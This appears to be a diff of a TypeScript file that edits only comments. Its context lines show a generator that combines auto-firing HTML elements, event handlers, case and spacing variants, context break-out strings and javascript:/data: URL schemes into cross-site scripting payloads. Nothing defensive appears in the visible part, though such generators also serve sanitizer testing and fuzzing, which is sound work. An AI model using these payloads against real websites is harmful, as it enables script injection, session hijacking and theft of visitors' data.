@@ -6,7 +6,7 @@ const cross = <One, Other>(
   join: (a: One, b: Other) => Payload,
 ) => ones.flatMap((one) => others.map((other) => join(one, other)))
 
-/** Run by themselves as soon as they are parsed. */
+/** These run by themselves as soon as they are parsed. */
 const carriers: readonly Payload[] = [
   (code) => `<img src=x onerror=${code}>`,
   (code) => `<svg onload=${code}>`,
@@ -14,7 +14,7 @@ const carriers: readonly Payload[] = [
   (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
 ]
 
-/** Elements that call their handler without being touched, or that a visitor cannot but touch. */
+/** Elements that call their handler without being touched, or that a visitor cannot avoid touching. */
 const handlers = [
   ['body', 'onload'],
   ['body', 'onpageshow'],
@@ -43,7 +43,7 @@ const handlers = [
   ['p', 'onclick'],
 ] as const
 
-/** The same element, written as browsers still read it. */
+/** The same element, in spellings that browsers still accept. */
 const spellings: readonly ((tag: string, event: string, code: string) => string)[] = [
   (tag, event, code) => `<${tag} ${event}=${code}>`,
   (tag, event, code) => `<${tag.toUpperCase()} ${event.toUpperCase()} = "${code}" >`,
@@ -59,7 +59,7 @@ const events = cross(
       spell(tag, event, code),
 )
 
-/** Out of the place a careless template would put the text into. */
+/** Break out of the place where a careless template would put the text. */
 const exits = [
   ...['">', "'>", '`>', '>', '"/>', '-->', '--!>', ']]>', '%>', '"}]}'],
   ...['title', 'textarea', 'script', 'style', 'noscript', 'template', 'select', 'iframe', 'xmp', 'head'].map(
@@ -76,7 +76,7 @@ const attributes: readonly Payload[] = ['"', "'", '` ', '" x="', "' x='"].flatMa
 
 const data = (type: string, markup: string) => `data:${type};base64,${Buffer.from(markup).toString('base64')}`
 
-/** Addresses that are code. */
+/** URLs that are code. */
 const schemes: readonly Payload[] = [
   (code) => `javascript:${code}`,
   (code) => `JaVaScRiPt:${code}`,
@@ -94,7 +94,7 @@ const schemes: readonly Payload[] = [
   (code) => `view-source:javascript:${code}`,
 ]
 
-/** Where an address is followed or fetched. */
+/** Places where a URL is followed or fetched. */
 const places: readonly ((address: string) => string)[] = [
   (address) => address,
   (address) => `<a href="${address}">come</a>`,
